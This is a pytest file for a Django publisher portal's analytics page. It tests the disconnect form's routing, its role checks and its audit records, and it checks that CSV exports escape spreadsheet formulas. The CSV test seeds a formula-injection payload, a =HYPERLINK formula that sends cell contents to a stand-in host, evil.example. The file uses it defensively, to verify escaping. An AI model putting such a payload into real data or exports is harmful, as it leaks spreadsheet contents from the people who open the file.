"""The Publisher's Analytics tab: the page answers GET; its Disconnect form posts to its own
URL beside it, a publisher's (the live gateway side is in tests/test_analytics.py)."""

import pytest
from django.test import Client

from analytics.models import DisconnectRequest, GatewayReport
from portal.models import AuditEvent
from publisher import services
from tests import factories
from testsupport import documents

pytestmark = pytest.mark.django_db

CONNECTION = "conn-1"


@pytest.fixture
def publisher():
    return factories.user("pub", roles=["creator", "publisher"])


@pytest.fixture
def chat(publisher):
    api = services.api_import_asyncapi(
        provider=publisher, document=documents.CHAT_ASYNCAPI, properties={"context": "/chat"}
    )
    # What a gateway reported as open now on this API.
    GatewayReport.objects.create(
        gateway_id="gw-1",
        connections=[{"id": CONNECTION, "apiId": str(api.id), "applicationName": "ChatClient", "topic": "/rooms"}],
    )
    return api


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _page(api) -> str:
    return f"/publisher/apis/{api.id}/analytics"


def _disconnect(api) -> str:
    return f"/publisher/apis/{api.id}/analytics/disconnect"


def _nothing_changed(audits: int) -> bool:
    return not DisconnectRequest.objects.exists() and AuditEvent.objects.count() == audits


def test_the_disconnect_button_posts_to_its_own_url_and_a_publisher_disconnects(chat, publisher):
    web = _client(publisher)
    body = web.get(_page(chat)).content.decode()
    assert f'action="{_disconnect(chat)}"' in body and f'name="connection" value="{CONNECTION}"' in body

    resp = web.post(_disconnect(chat), {"connection": CONNECTION}, follow=True)
    assert resp.redirect_chain == [(_page(chat), 302)]
    assert "Disconnect requested: the gateway closes the connection (1008)." in resp.content.decode()
    request = DisconnectRequest.objects.get()
    assert (request.connection_id, request.api_id, request.requested_by) == (CONNECTION, str(chat.id), publisher)
    audit = AuditEvent.objects.filter(action="connection.disconnect").get()
    assert audit.detail == {"connection": CONNECTION}


def test_the_disconnect_url_answers_no_get(chat, publisher):
    assert _client(publisher).get(_disconnect(chat)).status_code == 405


def test_a_developer_is_refused_and_nothing_changes(chat):
    audits = AuditEvent.objects.count()
    developer = _client(factories.user("dev"))
    assert developer.post(_disconnect(chat), {"connection": CONNECTION}).status_code == 403
    assert _nothing_changed(audits)


def test_a_creator_sees_no_button_and_is_told_only_publishers_may_disconnect(chat):
    audits = AuditEvent.objects.count()
    creator = _client(factories.user("cre", roles=["creator"]))
    assert ">Disconnect<" not in creator.get(_page(chat)).content.decode()
    resp = creator.post(_disconnect(chat), {"connection": CONNECTION}, follow=True)
    assert resp.redirect_chain == [(_page(chat), 302)]
    assert "Only publishers may disconnect clients." in resp.content.decode()
    assert _nothing_changed(audits)


@pytest.mark.parametrize("connection", ["", "conn-gone", "x" * 500])
def test_a_connection_that_is_not_open_is_explained_and_changes_nothing(chat, publisher, connection):
    audits = AuditEvent.objects.count()
    resp = _client(publisher).post(_disconnect(chat), {"connection": connection}, follow=True)
    assert resp.redirect_chain == [(_page(chat), 302)]
    assert "No such live connection of this API" in resp.content.decode()
    assert _nothing_changed(audits)


def test_the_page_itself_no_longer_takes_a_post(chat, publisher):
    audits = AuditEvent.objects.count()
    assert _client(publisher).post(_page(chat), {"connection": CONNECTION}).status_code == 405
    assert _nothing_changed(audits)


def test_the_csv_download_writes_chosen_names_as_text_not_formulas(publisher, chat):
    # Developers name their applications: a name a spreadsheet would run (=HYPERLINK(...))
    # went into the publisher's download as a live formula.
    import csv
    import io

    from django.utils import timezone
    from rest_framework.test import APIClient

    from analytics.models import TrafficStat

    for name in ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "Plain"):
        TrafficStat.objects.create(
            minute=timezone.now(), api_id=str(chat.id), application_name=name, topic="/rooms", kind="frame", label="in"
        )
    rest = APIClient()
    rest.force_authenticate(publisher)
    resp = rest.get(f"/api/am/publisher/v4/apis/{chat.id}/analytics", {"range": "1h", "format": "csv"})
    assert resp.status_code == 200
    names = sorted(row["application"] for row in csv.DictReader(io.StringIO(resp.content.decode())))
    assert names == ["'+1", "'-2", '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(A1)", "Plain"]
